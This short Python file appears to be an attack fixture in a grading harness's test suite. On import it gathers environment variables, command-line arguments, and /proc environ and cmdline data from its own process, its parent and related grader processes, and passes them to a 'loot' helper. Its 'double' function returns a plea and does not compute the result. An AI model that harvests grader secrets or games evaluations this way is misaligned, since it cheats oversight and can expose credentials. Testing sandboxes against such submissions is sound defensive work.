"""Looks for secrets in its own environment, in that of the processes that grade and in their command lines."""

import os
import sys

from tests.attacks.kit import loot, plead, read, relatives

AIM = "evidence"

loot(repr(dict(os.environ)).encode())
loot(repr([sys.argv, sys.orig_argv, sys.path]).encode())
for pid in ["self", os.getppid(), *relatives()]:
    for name in ("environ", "cmdline"):
        loot(read(f"/proc/{pid}/{name}"))


def double(x):
    return plead()
